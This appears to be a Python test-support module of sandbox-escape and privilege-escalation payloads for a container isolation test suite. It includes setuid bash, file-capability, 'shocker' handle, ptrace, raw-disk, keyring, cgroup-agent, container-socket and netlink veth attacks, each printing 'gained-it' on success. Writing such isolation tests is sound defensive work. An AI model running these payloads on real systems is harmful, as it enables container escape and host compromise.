"""The programs that the attacks upon privileges are made of; see :mod:`privilege_payloads`."""

from __future__ import annotations

from tests.security.payloads import Payload, python, shell

GAINED = "gained-it"
WON = f"echo {GAINED}"
CALLS = "import sys; sys.path.insert(0, '/opt/plandock'); import attack_calls as c, ctypes, os\n"


def same(name: str, path: str) -> Payload:
    """Write into a file of the kernel's what stands there already."""
    return Payload(name, f'v="$(cat {path})" && printf %s "$v" > {path} && {WON}')


def call(name: str, error: str) -> Payload:
    """A system call whose error tells: the kernel's own word, or a refusal in front of it."""
    ask = f"{CALLS}e = {error}\nprint(os.strerror(e))\n"
    let = "if e not in (1, 13): print('gained-it')"
    return Payload(
        name, python(ask + "if e not in c.REFUSED: print('gained-it')"), python(ask + let)
    )


def libc(call: str) -> str:
    """The error of a function of the C library, 0 where it went well."""
    return f"ctypes.get_errno() if {call} else 0"


def unshare(kind: str) -> Payload:
    """A new namespace of one kind."""
    return Payload(f"namespace-{kind.split()[0]}", f"unshare --{kind} true && {WON}")


def within(name: str, flags: str, script: str, control: str, then: str = "true") -> Payload:
    """As root of a user namespace of its own; ``then`` looks from outside whether it helped."""
    words = f"unshare --user --map-root-user {flags} {shell(script)}"
    return Payload(f"user-namespace-{name}", f"{words}; {then}", control)


OWN_BASH = "cp \"$(command -v bash)\" {0}/rb && chown 0:0 {0}/rb; chmod 4755 {0}/rb; " \
    "setpriv --reuid 1000 {0}/rb -p -c 'test $(id -u) = 0' && " + WON \
    + "; rm -f {0}/rb"  # fmt: skip
JAIL = (
    "import os\nos.makedirs('/var/jail/proc', exist_ok=True)\n"
    "open('/var/outside', 'w').write('gained-it')\nleak = os.open('/', os.O_RDONLY)\n"
    "os.system('mount -t proc proc /var/jail/proc')\nos.chroot('/var/jail'); os.chdir('/')\n"
    "assert not os.path.exists('/var/outside')\n"
)
CAPABILITY = (
    "import os, struct, shutil, subprocess\nshutil.copy('/usr/bin/python3', '{0}/py')\n"
    "os.chmod('{0}/py', 0o755)\n"
    "value = struct.pack('<IIIII', 0x02000001, 1 << 7, 0, 0, 0)\n"  # VFS_CAP_REVISION_2, CAP_SETUID
    "try: os.setxattr('{0}/py', 'security.capability', value)\n"
    "except OSError as error: print(error)\n"
    "words = ['setpriv', '--reuid', '1000', '{0}/py', '-c',\n"
    "    'import os; os.setuid(0); print(\"gained-it\")']\n"
    "subprocess.run(words); os.unlink('{0}/py')"
)
HANDLE = (
    # open_by_handle_at(2): a file by its number, past every path ("shocker").
    "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
    "room = ctypes.create_string_buffer((120).to_bytes(4, 'little') + bytes(4), 128)\n"
    "at = ctypes.c_int()\n"
    "if libc.name_to_handle_at(-100, b'/etc/hostname', room, ctypes.byref(at), 0):\n"
    "    print('name:', os.strerror(ctypes.get_errno()))\n"
    "where = os.open('/etc/hostname', os.O_RDONLY)\n"
    "for place in (room, ctypes.create_string_buffer(\n"
    "        bytes([8, 0, 0, 0, 1, 0, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0]), 128)):\n"
    "    found = libc.open_by_handle_at(where, place, os.O_RDONLY)\n"
    "    print('gained-it' if found >= 0 else os.strerror(ctypes.get_errno()))"
)
CLONE3 = (
    "words = ctypes.create_string_buffer((0x{0:x}).to_bytes(8, 'little') + bytes(24)\n"
    "    + (17).to_bytes(8, 'little') + bytes(24), 64)\n"
    "made = c.LIBC.syscall(ctypes.c_long(435), words, ctypes.c_long(64))\n"
    "if made == 0: os._exit(0)\n"
    "e = ctypes.get_errno() if made < 0 else 0\n"
    "if made > 0: os.waitpid(made, 0)\n"
    "print(os.strerror(e)); e or print('gained-it')"
)
PROCESSES = (
    # Every process that is seen: somebody else's, or with a right, or in another root.
    "import os\nfor pid in filter(str.isdigit, os.listdir('/proc')):\n"
    "    try: said = open(f'/proc/{pid}/status').read()\n"
    "    except OSError: continue\n"
    "    rows = dict(x.split(':\\t', 1) for x in said.splitlines() if ':\\t' in x)\n"
    "    rights = int(rows['CapPrm'], 16) or int(rows['CapBnd'], 16)\n"
    "    if rights or rows['Uid'].split()[0] != '1000':\n"
    "        print('gained-it', pid, rows['Name'], rows['Uid'], rows['CapBnd'])"
)
PTRACE = (
    # The steward and its init are the agent's own user's; taken over, they have no more than it.
    "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
    "libc.ptrace.argtypes = [ctypes.c_long] * 4\n"
    "for pid in [int(x) for x in os.listdir('/proc') if x.isdigit() and int(x) != os.getpid()]:\n"
    "    if libc.ptrace(16, pid, 0, 0):\n"
    "        print(pid, os.strerror(ctypes.get_errno())); continue\n"
    "    os.waitpid(pid, 0x40000000)\n"
    "    rows = open(f'/proc/{pid}/status').read()\n"
    "    rights = [x.split()[1] for x in rows.splitlines() if x.startswith('Cap')]\n"
    "    print(pid, rights); libc.ptrace(17, pid, 0, 0)\n"
    "    if any(int(x, 16) for x in rights): print('gained-it')"
)
DEVICES = (
    "import os, stat\n"
    "known = {'null', 'zero', 'full', 'random', 'urandom', 'tty', 'console', 'ptmx'}\n"
    "for top, _, names in os.walk('/dev'):\n"
    "    for name in names:\n"
    "        mode = os.lstat(os.path.join(top, name)).st_mode\n"
    "        other = stat.S_ISCHR(mode) and name not in known and 'pts' not in top\n"
    "        if stat.S_ISBLK(mode) or other:\n"
    "            print('gained-it', top, name)"
)
DISK = (
    # Each disk of this machine, and a loop device: what can be opened could be read.
    "{ echo 7 0; sed 1,2d /proc/partitions; } | while read -r major minor _; do "
    f"mknod /tmp/d b $major $minor && dd if=/tmp/d of=/dev/null bs=512 count=1 && {WON}; "
    "rm -f /tmp/d; done"
)
KEYS = (
    "import os\nfor line in open('/proc/keys'):\n"
    "    words = line.split()\n"
    "    if words[5] not in ('1000', '65534'): print('gained-it', line)"
)
KEY_HELD = (
    # add_key(2): into the keyring of the user in its own namespace; then /proc/keys has it.
    "import ctypes, os\nn = 248 if os.uname().machine == 'x86_64' else 217\n"
    "made = ctypes.CDLL(None).syscall(n, b'user', b'plandock-test', b'x', 1, ctypes.c_long(-3))\n"
)
HOST_KEY = "plandock-test-key"
PLANT_KEY = (
    # add_key(2) into the keyring of the user 1000 of this machine (KEY_SPEC_USER_KEYRING).
    "import ctypes, os\nn = 248 if os.uname().machine == 'x86_64' else 217\n"
    f"value = b'{GAINED}'\n"
    f"ctypes.CDLL(None).syscall(n, b'user', b'{HOST_KEY}', value, len(value), ctypes.c_long(-4))"
)
KEY_OF_THE_HOST = (
    # No namespace holds the keyring of a user: linked into one's own, it can be searched.
    "room = ctypes.create_string_buffer(64)\n"
    "number = ctypes.c_long(c.NUMBERS['keyctl'])\n"
    "def keyctl(*words): return c.LIBC.syscall(number, *map(c._word, words))\n"
    "print('link', keyctl(8, -4, -2))\n"
    f"key = keyctl(10, -4, b'user', b'{HOST_KEY}', 0)\n"
    "print('search', key); print('read', keyctl(11, key, room, 64)); print(room.value.decode())"
)
PERSISTENT = (
    # KEYCTL_GET_PERSISTENT (22) of root, then KEYCTL_DESCRIBE (6): only with a right over root.
    "for uid in (0, 65534):\n"
    "    e = c.call('keyctl', 22, uid, -2, 0, 0)\n"
    "    print(uid, os.strerror(e))\n"
    "    if e == 0: print('gained-it')"
)
FOREIGN_KEYS = (
    # KEYCTL_READ (11) of every number that /proc/keys tells, and of root's keyrings by name.
    "room = ctypes.create_string_buffer(64)\n"
    "for line in open('/proc/keys'):\n"
    "    words = line.split()\n"
    "    if words[5] in ('1000', '65534'): continue\n"
    "    e = c.call('keyctl', 11, int(words[0], 16), room, 64, 0)\n"
    "    print(line.strip(), os.strerror(e))\n"
    "    if e == 0: print('gained-it')"
)
CGROUP_FILES = (
    "import os\nfor top, _, names in os.walk('/sys/fs/cgroup'):\n"
    "    for name in {'memory.limit_in_bytes', 'memory.max', 'pids.max', 'cpu.cfs_quota_us',\n"
    "            'cpu.max', 'notify_on_release', 'cgroup.max.depth'} & set(names):\n"
    "        try:\n"
    "            with open(os.path.join(top, name), 'r+') as file:\n"
    "                said = file.read(); file.seek(0); file.write(said)\n"
    "            print('gained-it', top, name)\n"
    "        except OSError as error: last = error\n"
    "    if top.count('/') > 5: break"
)
MAP_FILES = (
    # What a process has mapped, opened past every path; a right of the kernel's own is asked for.
    "import glob, os\n"
    "for place in glob.glob('/proc/[0-9]*/map_files/*'):\n"
    "    try: os.close(os.open(place, os.O_RDONLY)); print('gained-it', place); break\n"
    "    except OSError as error: last = error"
)
AGENT = (
    # The classic way out of cgroup v1: a group of one's own, whose agent the kernel runs as root.
    "mkdir -p /tmp/cg; for c in rdma memory pids; do mount -t cgroup -o $c none /tmp/cg && break; "
    "done || mount -t cgroup2 none /tmp/cg; mountpoint /tmp/cg && mkdir /tmp/cg/x && "
    f"rmdir /tmp/cg/x && {WON}; umount /tmp/cg; rmdir /tmp/cg"
)
SOCKETS = (
    # Whoever takes a connection, wherever it listens.
    "import os, socket, stat\nseen = {'/var/run/docker.sock', '/run/docker.sock',\n"
    "    '/run/podman/podman.sock', '/run/containerd/containerd.sock', '/run/crio/crio.sock',\n"
    "    '/run/user/1000/podman/podman.sock', '/run/user/1000/docker.sock'}\n"
    "for top, folders, names in os.walk('/'):\n"
    "    if top == '/': folders[:] = [x for x in folders if x not in ('proc', 'sys', 'plandock')]\n"
    "    seen |= {os.path.join(top, x) for x in names if x.endswith('.sock')}\n"
    "for place in seen:\n"
    "    try:\n"
    "        s = socket.socket(socket.AF_UNIX); s.settimeout(5); s.connect(place)\n"
    "        print('gained-it', place)\n"
    "    except OSError as error: print(place, error)"
)
SOCKET_THERE = (
    "import socket, threading\n"
    "s = socket.socket(socket.AF_UNIX); s.bind('/run/docker.sock'); s.listen(9)\n"
    "def serve():\n    while True: s.accept()[0].sendall(b'OK')\n"
    "threading.Thread(target=serve, daemon=True).start()\n"
)
VETH = (
    # RTM_NEWLINK (16): a pair of cards, the other end in the network of the box's first process.
    "import os, socket, struct\n"
    "def row(kind, data):\n"
    "    return struct.pack('=HH', 4 + len(data), kind) + data + bytes(-len(data) % 4)\n"
    "head = struct.pack('=BxHiII', 0, 0, 0, 0, 0)\n"
    "there = row(28, struct.pack('=i', os.open('/proc/1/ns/net', 0)))\n"
    "peer = row(1, head + row(3, b'pd1\\0') + there)\n"
    "body = head + row(3, b'pd0\\0') + row(18, row(1, b'veth') + row(2, peer))\n"
    "s = socket.socket(16, 3, 0)\n"
    "s.send(struct.pack('=IHHII', 16 + len(body), 16, 0x605, 1, 0) + body)\n"
    "error = struct.unpack('=i', s.recv(999)[16:20])[0]; print(os.strerror(-error))\n"
    "if not error: print('gained-it')"
)
ADDRESS = "203.0.113.9"  # RFC 5737; the open container's own namespace answers to every address
SEND = python(
    f"import socket; s = socket.socket(2, 2); s.sendto(b'x', ('{ADDRESS}', 9)); print('gained-it')"
)
PIVOT = f"mount -t tmpfs x /mnt && cd /mnt && mkdir old && pivot_root . old && {WON}"
TOUCH = f"for f in {{}}; do : >> $f && {WON}; done"
